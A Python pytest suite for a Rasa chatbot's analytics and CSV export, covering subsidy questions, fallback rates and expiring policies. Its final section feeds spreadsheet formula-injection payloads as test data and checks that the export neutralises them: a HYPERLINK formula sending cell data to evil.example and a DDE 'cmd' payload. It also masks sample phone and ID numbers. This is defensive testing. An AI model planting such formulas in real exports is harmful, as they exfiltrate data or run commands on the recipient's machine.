"""Demand analytics (bot/rasa/analytics.py) on rows written by Rasa's own SQL tracker store."""
from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from rasa.shared.core.events import ActionExecuted, SlotSet, UserUttered
from sqlalchemy import create_engine

from bot.rasa import analytics
from bot.rasa.analytics import EventRow, build_report, cluster_questions, load_events
from tests.web.admin_helpers import write_conversations

BEIJING = dt.timezone(dt.timedelta(hours=8))

TODAY = dt.date(2026, 6, 15)
NOON = dt.datetime(2026, 6, 15, 12, tzinfo=BEIJING).timestamp()
POLICIES = [
    {"id": "startup_guaranteed_loan", "name": "创业担保贷款", "family": "guaranteed_loan", "status": "published",
     "effective_to": None},
    {"id": "ssf_deferral_2025", "name": "社保费缓缴", "family": "social_insurance", "status": "published",
     "effective_to": "2026-07-31"},
    {"id": "vat_small_scale_1pct", "name": "增值税 1%", "family": "tax_relief", "status": "published",
     "effective_to": "2026-08-20", "continuation_unconfirmed": True},
    {"id": "old_relief", "name": "已废止", "family": "tax_relief", "status": "retired", "effective_to": "2026-07-01"},
]


def turn(text, intent, *actions, matched=None, at=NOON):
    events = [UserUttered(text, {"name": intent, "confidence": 0.9}, timestamp=at)]
    events += [ActionExecuted(name, timestamp=at + 1) for name in actions]
    if matched is not None:
        events.append(SlotSet("matched_policies", matched, timestamp=at + 2))
    return events + [ActionExecuted("action_listen", timestamp=at + 3)]


CONVERSATIONS = {
    "owner-a": (turn("创业担保贷款能贷多少", "ask_guaranteed_loan", "action_answer_policies",
                     matched=["startup_guaranteed_loan", "ssf_deferral_2025"])
                + turn("店铺装修有补贴吗", "nlu_fallback", "action_fallback_options", at=NOON + 10)
                + turn("转人工", "request_human", "action_handoff", at=NOON + 20)),
    "owner-b": (turn("我的店铺装修有没有补贴？", "nlu_fallback", "action_fallback_options", at=NOON - 86400)
                + turn("帮我订机票", "out_of_scope", "utter_out_of_scope", at=NOON - 86400 + 5)
                + turn("社保能缓缴吗", "ask_social_insurance", "action_answer_policies",
                       matched=["ssf_deferral_2025"], at=NOON - 86400 + 9)
                + turn("/ask_tax_relief", "ask_tax_relief", "action_answer_policies", matched=[], at=NOON - 86400 + 30)),
    # Outside a 7-day window, inside a 30-day one.
    "owner-c": turn("店铺装修补贴", "nlu_fallback", "action_fallback_options", at=NOON - 10 * 86400),
}


@pytest.fixture(scope="module")
def tracker_url(tmp_path_factory):
    url = f"sqlite:///{tmp_path_factory.mktemp('tracker') / 'tracker.db'}"
    write_conversations(url, CONVERSATIONS)
    return url


@pytest.fixture(scope="module")
def events(tracker_url):
    engine = create_engine(url=tracker_url)
    try:
        yield load_events(engine)
    finally:
        engine.dispose()


def test_load_events_reads_only_what_the_figures_need(events):
    kinds = {(e.type_name, e.action_name) for e in events}
    assert ("action", "action_listen") not in kinds and ("action", "utter_out_of_scope") not in kinds
    assert ("slot", "matched_policies") in kinds and ("action", "action_handoff") in kinds
    assert sum(e.type_name == "user" for e in events) == 8
    assert next(e for e in events if e.type_name == "user").data["text"]


def test_load_events_without_an_events_table_is_empty(tmp_path):
    assert load_events(create_engine(f"sqlite:///{tmp_path / 'empty.db'}")) == []


def test_load_events_since(tracker_url):
    engine = create_engine(tracker_url)
    since = dt.datetime.fromtimestamp(NOON - 3600, BEIJING)
    assert {e.sender_id for e in load_events(engine, since)} == {"owner-a"}


def test_report_counts_rates_and_days(events):
    report = build_report(events, policies=POLICIES, today=TODAY, days=7)
    totals = report["totals"]
    assert totals["messages"] == 7 and totals["owners"] == 2
    assert totals["fallback_turns"] == 2 and totals["fallback_rate"] == round(2 / 7, 4)
    assert totals["handoff_owners"] == 1 and totals["handoff_rate"] == 0.5
    assert [d["date"] for d in report["daily"]][-2:] == ["2026-06-14", "2026-06-15"]
    assert len(report["daily"]) == 7
    assert report["daily"][-1] == {"date": "2026-06-15", "messages": 3, "owners": 1, "fallbacks": 1, "handoffs": 1}
    intents = {i["intent"]: i for i in report["intents"]}
    assert intents["nlu_fallback"]["count"] == 2 and intents["nlu_fallback"]["label"] == "没听懂（兜底）"
    assert intents["ask_tax_relief"]["count"] == 1  # a button payload still counts as a question


def test_wider_window_includes_older_days(events):
    report = build_report(events, policies=POLICIES, today=TODAY, days=30)
    assert report["totals"]["messages"] == 8 and report["since"] == "2026-05-17"


def test_unanswered_questions_are_clustered(events):
    report = build_report(events, policies=POLICIES, today=TODAY, days=30)
    top = report["unanswered"][0]
    assert top["count"] == 3 and top["owners"] == 3
    assert set(top["examples"]) == {"店铺装修有补贴吗", "我的店铺装修有没有补贴？", "店铺装修补贴"}
    texts = [c["text"] for c in report["unanswered"]]
    assert "帮我订机票" in texts  # out_of_scope counts as unanswered
    assert all(not t.startswith("/") for t in texts)


def test_policies_per_family_and_expiring(events):
    report = build_report(events, policies=POLICIES, today=TODAY, days=7)
    families = {f["family"]: f for f in report["families"]}
    assert families["social_insurance"]["owners"] == 2 and families["social_insurance"]["family_name"] == "社会保险"
    assert families["guaranteed_loan"]["owners"] == 1
    assert [(p["policy_id"], p["owners"]) for p in report["policies"]][0] == ("ssf_deferral_2025", 2)
    expiring = report["expiring"]
    assert [e["policy_id"] for e in expiring] == ["ssf_deferral_2025", "vat_small_scale_1pct"]
    assert expiring[0]["owners"] == 2 and expiring[0]["days_left"] == 46
    assert expiring[1]["continuation_unconfirmed"] is True and expiring[1]["owners"] == 0


def test_turns_attach_actions_to_the_message_before_them():
    rows = [
        EventRow(1, "s", "user", NOON, intent_name="greet", data={"text": "你好"}),
        EventRow(2, "s", "action", NOON + 1, action_name="action_handoff"),
        EventRow(3, "s", "user", NOON + 2, intent_name="find_policies", data={"text": "有什么政策"}),
        EventRow(4, "s", "slot", NOON + 3, action_name="matched_policies",
                 data={"name": "matched_policies", "value": ["a", "b"]}),
        EventRow(5, "t", "action", NOON + 4, action_name="action_fallback_options"),  # no message before it
    ]
    first, second = analytics.turns(rows)
    assert first.handoff and not first.matched
    assert second.matched == ["a", "b"] and not second.handoff


@pytest.mark.parametrize("a,b,same", [
    ("店铺装修有补贴吗", "店铺装修有没有补贴", True),
    ("店铺装修有补贴吗", "帮我订一张机票", False),
    ("退休金怎么领", "退休金怎么领？？", True),
])
def test_clustering_by_bigram_similarity(a, b, same):
    clusters = cluster_questions([(a, "x"), (a, "y"), (b, "z")])
    assert (len(clusters) == 1) is same
    assert clusters[0].text == a  # the most frequent wording names the cluster


def test_csv_has_chinese_headers_and_a_bom(events):
    report = build_report(events, policies=POLICIES, today=TODAY, days=30)
    text = analytics.to_csv(report, "unanswered")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0] == ["问题", "次数", "提问人数", "相近问法"]
    assert rows[1][1] == "3" and "、" in rows[1][3]
    expiring = list(csv.reader(io.StringIO(analytics.to_csv(report, "expiring").lstrip("\ufeff"))))
    assert expiring[2][4] == "是"
    for table in analytics.CSV_TABLES:
        assert analytics.to_csv(report, table)


def test_malformed_data_is_logged_not_fatal(caplog):
    row = EventRow.from_row({"id": 7, "sender_id": "s", "type_name": "user", "timestamp": NOON, "data": "{oops"})
    assert row.data == {} and "not JSON" in caplog.text


# ---- hostile owner text in reports and exports -------------------------------------------------

HOSTILE = {
    "owner-x": (turn('=HYPERLINK("http://evil.example/?d="&A1,"点我领补贴")', "nlu_fallback",
                     "action_fallback_options")
                + turn("+cmd|' /C calc'!A0", "nlu_fallback", "action_fallback_options", at=NOON + 10)
                + turn("-2+3 补贴", "out_of_scope", at=NOON + 20)
                + turn("@SUM(1+1)", "nlu_fallback", "action_fallback_options", at=NOON + 30)
                + turn("\t=1+1", "nlu_fallback", "action_fallback_options", at=NOON + 40)
                + turn("\r=1+1 回车", "nlu_fallback", "action_fallback_options", at=NOON + 50)),
    "owner-y": (turn("我电话13812345678，身份证11010519491231002X，帮我订机票", "out_of_scope", at=NOON + 60)
                + turn("手机 139 8765 4321 能办吗", "nlu_fallback", "action_fallback_options", at=NOON + 70)),
}


@pytest.fixture(scope="module")
def hostile_report(tmp_path_factory):
    url = f"sqlite:///{tmp_path_factory.mktemp('hostile') / 'tracker.db'}"
    write_conversations(url, HOSTILE)
    events = load_events(create_engine(url))
    return build_report(events, policies=POLICIES, today=TODAY, days=7)


def test_csv_cells_from_owner_text_are_never_formulas(hostile_report):
    rows = list(csv.reader(io.StringIO(analytics.to_csv(hostile_report, "unanswered").lstrip("\ufeff"))))
    cells = [cell for row in rows[1:] for cell in (row[0], row[3])]
    assert len(rows) - 1 == 8
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点我领补贴\")" in cells
    assert "'+cmd|' /C calc'!A0" in cells and "'-2+3 补贴" in cells and "'@SUM(1+1)" in cells


@pytest.mark.parametrize("value,safe", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("＝1+1", "'＝1+1"), ("补贴 = 多少", "补贴 = 多少"), ("", ""),
])
def test_neutralise(value, safe):
    assert analytics.neutralise(value) == safe


def test_phone_and_id_numbers_are_masked_in_the_report_and_csv(hostile_report):
    shown = repr(hostile_report["unanswered"])
    exported = analytics.to_csv(hostile_report, "unanswered")
    for text_ in (shown, exported):
        assert "13812345678" not in text_ and "11010519491231002X" not in text_ and "8765 4321" not in text_
        assert "138****5678" in text_ and "110105********002X" in text_ and "139****4321" in text_
